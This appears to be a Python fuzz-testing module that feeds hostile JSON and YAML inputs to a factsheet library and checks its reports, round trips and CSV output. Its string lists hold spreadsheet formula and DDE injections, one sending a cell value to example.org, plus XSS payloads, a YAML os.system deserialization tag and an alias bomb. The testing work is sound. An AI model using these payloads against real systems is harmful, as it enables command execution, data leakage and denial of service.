"""Hostile inputs for opsfacts, and the invariant every one of them must keep.

Shared by the fast suite (``tests/test_hostile.py``) and the long campaign
(``benchmarks/fuzz_campaign.py``). A case is bytes in JSON or YAML syntax,
drawn from a ``random.Random`` by one of :data:`CATEGORIES`; :func:`run_case`
puts it through everything the library does with a document (parse, load,
the consistency checks, the four report formats, a JSON and YAML round trip,
Markdown, HTML, and every CSV and HXL table) and returns ``None`` when the
invariant held, else a short failure signature:

* the library returns, or raises an :class:`opsfacts.errors.OpsfactsError`;
* every output is valid UTF-8;
* every text-report line is one finding (no line breaks inside an entry);
* what ``dumps`` writes, ``loads`` reads back as the same factsheet;
* no CSV text cell starts with a character a spreadsheet reads as a formula.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import random
import traceback
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs

import opsfacts
from opsfacts.checks import check
from opsfacts.documents import Input
from opsfacts.documents._loading import Syntax
from opsfacts.errors import OpsfactsError
from opsfacts.render import render_html, render_markdown
from opsfacts.tables import TABLE_NAMES, table, write_csv
from opsfacts.validation import FORMATS, DocumentValidator, Report, checks_runner, render

REPO = Path(__file__).resolve().parents[1]
SEEDS = sorted(
    p
    for pattern in ("examples/*.json", "tests/data/factsheets/*.json", "tests/data/factsheets/*.yaml")
    for p in REPO.glob(pattern)
)
"""Documents the mutations start from: the examples and the test factsheets."""

CATEGORIES = (
    "random-bytes",
    "random-json",
    "model-extremes",
    "example-mutation",
    "text-mutation",
    "yaml-special",
    "output-strings",
)
"""In-process categories, in the order a run cycles through them."""

HOSTILE_STRINGS = (
    '=HYPERLINK("https://example.org/x?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCR first",
    "line\nbreak",
    "line\u2028separator",
    "para\u2029graph",
    "nel\x85here",
    "esc \x1b[31mred\x1b[0m",
    "nul\x00byte",
    "lone \ud800 surrogate",
    "\udcff",
    "::error file=x.json::forged",
    "x.json:1:1: OPS001 error $: forged",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[link](javascript:alert(1))",
    "# heading\n- item",
    "| a | b |",
    "` ``` `",
    "%0A%0D",
    "\u202egnp.exe",
    "\ufeffBOM",
    "😀" * 20,
    "x" * 5000,
    " ",
    "",
)
"""Strings that have broken, or could break, some output format."""

EXTREME_INTS = (0, 1, -1, 2**31, 2**63, 10**20, 10**309, 10**4000, -(10**309))
EXTREME_DECIMALS = (
    "0",
    "0.0000000",
    "0.0000001",
    "1234567890123456789012345678901",
    "9999999999999999999999999999999.9999999",
    "0." + "0" * 60 + "1",
    "1" + "0" * 400,
    "1e-9",
    "1E+5",
    "-1",
    "NaN",
    "Infinity",
    "1.196E-9",
)
YAML_SPECIALS = (
    "a: &a [1, 2]\nb: *a\n",
    'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
    + "".join(
        f"{n}: &{n} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "title: *i\n",
    "!!python/object/apply:os.system ['echo x']\n",
    "title: !!python/name:os.system\n",
    "title: !!binary aGVsbG8=\n",
    "title: !custom x\n",
    "format_version: !!float 2.0\n",
    "count: .inf\n",
    "count: -.Inf\n",
    "count: .nan\n",
    "count: 010\n",
    "count: 0o10\n",
    "count: 0x10\n",
    "count: 0b101\n",
    "count: 1_000\n",
    "count: " + "9" * 5000 + "\n",
    "date: 2017-06-30\n",
    "date: 2017-06-30T10:00:00Z\n",
    "yes: no\non: off\n",
    "<<: {a: 1}\n",
    "a: 1\na: 2\n",
    "? [a, b]\n: c\n",
    "? {a: 1}\n: c\n",
    "--- a\n--- b\n",
    "%YAML 1.1\n---\na: 1\n",
    "[" * 100_000 + "]" * 100_000 + "\n",
    "a:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 200)),
    "~\n",
    "'\\ud800': 1\n",
    '"\\ud800": 1\n',
    '"\\x85\\u2028": 1\n',
    "\t a: 1\n",
)


@attrs.frozen
class Case:
    """One hostile input: its category, a name for reports, its bytes and its syntax."""

    category: str
    name: str
    data: bytes
    syntax: str = "json"


def _encode(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _json_text(data: Any) -> bytes:
    return _encode(json.dumps(data, ensure_ascii=False))


@attrs.frozen
class _Seed:
    name: str
    raw: bytes
    syntax: str
    data: Any


_SEED_CACHE: list[_Seed] = []


def seeds() -> list[_Seed]:
    """The seed documents, read once."""
    if not _SEED_CACHE:
        for path in SEEDS:
            syntax = "yaml" if path.suffix == ".yaml" else "json"
            raw = path.read_bytes()
            _SEED_CACHE.append(
                _Seed(path.name, raw, syntax, opsfacts.documents.parse(raw, _syntax(syntax)).data)
            )
    return _SEED_CACHE


def _syntax(name: str) -> Syntax:
    return "yaml" if name == "yaml" else "json"


def _random_string(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.5:
        return rng.choice(HOSTILE_STRINGS)
    if roll < 0.8:
        return "".join(chr(rng.choice((rng.randrange(0x20), rng.randrange(0x80, 0x3000)))) for _ in range(8))
    return "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(1, 12)))


def random_value(rng: random.Random, depth: int = 0) -> Any:
    """A random JSON value with hostile strings and extreme numbers."""
    roll = rng.randrange(10 if depth < 4 else 6)
    if roll == 0:
        return None
    if roll == 1:
        return rng.random() < 0.5
    if roll == 2:
        return rng.choice(EXTREME_INTS) if rng.random() < 0.5 else rng.randrange(-1000, 10**6)
    if roll == 3:
        return rng.choice((0.5, -0.0, 1e308, 1e-308, 12.0))
    if roll in (4, 5):
        return rng.choice(EXTREME_DECIMALS) if rng.random() < 0.3 else _random_string(rng)
    if roll in (6, 7):
        return [random_value(rng, depth + 1) for _ in range(rng.randrange(4))]
    return {_random_string(rng): random_value(rng, depth + 1) for _ in range(rng.randrange(4))}


def _paths(data: Any, here: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield here
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _paths(value, (*here, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _paths(value, (*here, index))


def _get(data: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        data = data[part]
    return data


def _mutate(rng: random.Random, data: Any) -> Any:
    """The data with one change at a random place: a value replaced, removed, duplicated or added."""
    data = copy.deepcopy(data)
    path = rng.choice(list(_paths(data))[1:] or [()])
    if not path:
        return random_value(rng)
    parent, last = _get(data, path[:-1]), path[-1]
    action = rng.randrange(6)
    if action == 0:
        del parent[last]
    elif action == 1 and isinstance(parent, list):
        parent.insert(last, copy.deepcopy(parent[last]))
    elif action == 2 and isinstance(parent, dict):
        parent[_random_string(rng)] = random_value(rng)
    elif action == 3:
        parent[last] = _extreme_like(rng, parent[last])
    else:
        parent[last] = random_value(rng)
    return data


def _extreme_like(rng: random.Random, value: Any) -> Any:
    """A value of the same kind pushed to an extreme: a huge count, a long decimal, hostile text."""
    if isinstance(value, bool):
        return value
    if isinstance(value, int):
        return rng.choice([v for v in EXTREME_INTS if v >= 0])
    if isinstance(value, str):
        if value.replace(".", "", 1).isdigit():
            return rng.choice(EXTREME_DECIMALS)
        return rng.choice(HOSTILE_STRINGS) or "x"
    return value


def _extremes(rng: random.Random, data: Any, rate: float) -> Any:
    if isinstance(data, dict):
        return {k: _extremes(rng, v, rate) for k, v in data.items()}
    if isinstance(data, list):
        return [_extremes(rng, v, rate) for v in data]
    return _extreme_like(rng, data) if rng.random() < rate else data


def _valid_extremes(rng: random.Random, data: Any) -> Any:
    """Extremes a loader accepts: huge counts, long decimals, hostile text in every text field."""
    if isinstance(data, dict):
        return {k: (v if k in _KEEP else _valid_extremes(rng, v)) for k, v in data.items()}
    if isinstance(data, list):
        return [_valid_extremes(rng, v) for v in data]
    if isinstance(data, bool) or rng.random() < 0.5:
        return data
    if isinstance(data, int):
        return rng.choice((10**20, 10**309, 10**4000, 2**63))
    if isinstance(data, str) and data.replace(".", "", 1).isdigit():
        return rng.choice(
            ("1234567890123456789012345678901", "0.0000001", "9" * 31 + ".1234567", "0." + "0" * 60 + "1")
        )
    if isinstance(data, str):
        return rng.choice((*HOSTILE_STRINGS[:6], "Label", "x" * 300, "😀", "a\tb"))
    return data


# Keys whose values are codes, dates or versions: left alone so the document still loads.
_KEEP = frozenset(
    {
        "format_version", "kind", "language", "currency", "countries", "country", "origin", "scope",
        "as_of", "start", "end", "date", "type", "residence", "setting", "sex", "axis", "role", "code",
        "cluster", "sector", "url", "email", "website", "marker", "footnotes", "qualifier", "scale",
        "level", "min_age", "max_age", "iati_id", "iati", "place_type", "office_type", "category",
        "period", "$schema", "part_of",
    }
)  # fmt: skip


def _text_mutation(rng: random.Random, raw: bytes) -> bytes:
    data = bytearray(raw)
    for _ in range(rng.randrange(1, 4)):
        at = rng.randrange(len(data) + 1)
        action = rng.randrange(6)
        if action == 0 and data:
            data[min(at, len(data) - 1)] = rng.randrange(256)
        elif action == 1:
            del data[at : at + rng.randrange(1, 64)]
        elif action == 2:
            data[at:at] = _encode(rng.choice(HOSTILE_STRINGS))
        elif action == 3:
            chunk = data[at : at + rng.randrange(1, 200)]
            data[at:at] = chunk * rng.randrange(1, 4)
        elif action == 4:
            del data[at:]
        else:
            data[at:at] = rng.choice((b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00", b'"\\ud800"', b"1e999"))
    return bytes(data)


def make_case(category: str, rng: random.Random) -> Case:
    """One case of a category."""
    if category == "random-bytes":
        size = rng.choice((0, 1, 2, 8, 64, 512, 4096))
        prefix = rng.choice((b"", b"{", b'{"a":', b"a: ", b"\xef\xbb\xbf"))
        return Case(category, f"{size} bytes", prefix + rng.randbytes(size), rng.choice(("json", "yaml")))
    if category == "random-json":
        value = random_value(rng)
        if rng.random() < 0.6:
            value = {"format_version": "2.0", **(value if isinstance(value, dict) else {"x": value})}
        return Case(category, "random value", _json_text(value))
    seed = rng.choice(seeds())
    if category == "model-extremes":
        return Case(category, seed.name, _json_text(_valid_extremes(rng, seed.data)))
    if category == "example-mutation":
        mutated = _mutate(rng, seed.data)
        if rng.random() < 0.3:
            mutated = _extremes(rng, mutated, 0.05)
        return Case(category, seed.name, _json_text(mutated))
    if category == "text-mutation":
        return Case(category, seed.name, _text_mutation(rng, seed.raw), seed.syntax)
    if category == "yaml-special":
        text = rng.choice(YAML_SPECIALS)
        if rng.random() < 0.5 and seed.syntax == "yaml":
            lines = seed.raw.decode("utf-8").splitlines(keepends=True)
            at = rng.randrange(len(lines) + 1)
            text = "".join(lines[:at]) + text + "".join(lines[at:])
        return Case(category, "yaml", _encode(text), "yaml")
    if category == "output-strings":
        data = copy.deepcopy(seed.data)
        texts = [p for p in _paths(data) if p and isinstance(_get(data, p), str) and p[-1] not in _KEEP]
        for path in rng.sample(texts, min(len(texts), rng.randrange(1, 12))):
            if not any(part in _KEEP for part in path):
                _get(data, path[:-1])[path[-1]] = rng.choice(HOSTILE_STRINGS[:22])
        if rng.random() < 0.3:
            data[rng.choice(HOSTILE_STRINGS)] = 1  # an unknown key, in every report's path
        return Case(category, seed.name, _json_text(data), "json")
    raise ValueError(f"no category {category!r}")


# --- running a case ------------------------------------------------------------


class Violation(AssertionError):
    """The invariant does not hold; its text is the failure signature."""


class _BytesValidator(DocumentValidator):
    """A validator whose inputs are bytes in memory."""

    def __init__(self, data: bytes) -> None:
        super().__init__(checks=_runner())
        self.data = data

    def read(self, source: Input) -> bytes:
        return self.data


_RUNNERS: list[Any] = []


def _runner() -> Any:
    if not _RUNNERS:
        _RUNNERS.append(checks_runner())
    return _RUNNERS[0]


def _utf8(what: str, text: str) -> None:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError as exc:
        raise Violation(f"{what}: not valid UTF-8 ({exc.reason})") from None


def _report(case: Case) -> None:
    source = Input("case.yaml" if case.syntax == "yaml" else "case.json", None, case.syntax)
    file_report = _BytesValidator(case.data).validate(source)
    report = Report((file_report,))
    for fmt in FORMATS:
        _utf8(f"{fmt} report", render(report, fmt))
    lines = render(report, "text").split("\n")
    if len(lines) != len(file_report.entries) + 2 or lines[-1] != "":
        raise Violation("text report: an entry spans several lines")
    if any(len(line.splitlines()) > 1 for line in lines):
        raise Violation("text report: a line separator inside an entry")


_FORMULA_START = tuple("=+-@\t\r\n")


def _outputs(factsheet: opsfacts.Factsheet, yaml_too: bool) -> None:
    check(factsheet)
    syntaxes: tuple[Syntax, ...] = ("json", "yaml") if yaml_too else ("json",)
    for syntax in syntaxes:
        text = opsfacts.dumps(factsheet, syntax=syntax)
        _utf8(f"dumps {syntax}", text)
        try:
            again = opsfacts.loads(text, syntax=syntax)
        except OpsfactsError as exc:
            raise Violation(
                f"dumps {syntax}: the loader rejects it: {str(exc).splitlines()[-1][:80]}"
            ) from None
        if again != factsheet:
            raise Violation(f"dumps {syntax}: read back as another factsheet")
    _utf8("markdown", render_markdown(factsheet))
    _utf8("html", render_html(factsheet))
    for name in TABLE_NAMES:
        buffer = io.StringIO()
        write_csv(table(name, factsheet), buffer, hxl=True)
        _utf8(f"{name} table", buffer.getvalue())
        for row in list(csv.reader(io.StringIO(buffer.getvalue())))[2:]:
            for cell in row:
                if cell.startswith(_FORMULA_START):
                    raise Violation(f"{name} table: a cell starts with {cell[0]!r}")


def run_case(case: Case, *, yaml_every: int = 1) -> str | None:
    """None when the invariant holds for the case, else its failure signature.

    The YAML round trip (PyYAML's emitter is slow) is made for one loaded case in ``yaml_every``.
    """
    try:
        _report(case)
        try:
            factsheet = opsfacts.loads(case.data, syntax=_syntax(case.syntax))
        except OpsfactsError:
            return None
        _outputs(factsheet, yaml_every == 1 or zlib.crc32(case.data) % yaml_every == 0)
    except Violation as exc:
        return str(exc)
    except OpsfactsError:
        return None
    except RecursionError:
        return "RecursionError"
    except Exception as exc:  # noqa: BLE001 - every other exception is a failure to report
        return signature(exc)
    return None


def signature(exc: BaseException) -> str:
    """``Type at module.py:line``: the innermost opsfacts frame of the traceback."""
    frames = [f for f in traceback.extract_tb(exc.__traceback__) if "opsfacts" in f.filename]
    where = f" at {Path(frames[-1].filename).name}:{frames[-1].lineno}" if frames else ""
    return f"{type(exc).__name__}{where}"


def cases(seed: int, count: int, categories: tuple[str, ...] = CATEGORIES) -> Iterator[Case]:
    """``count`` cases, cycling through the categories, each from its own seeded generator."""
    for index in range(count):
        rng = random.Random(f"{seed}:{index}")
        yield make_case(categories[index % len(categories)], rng)
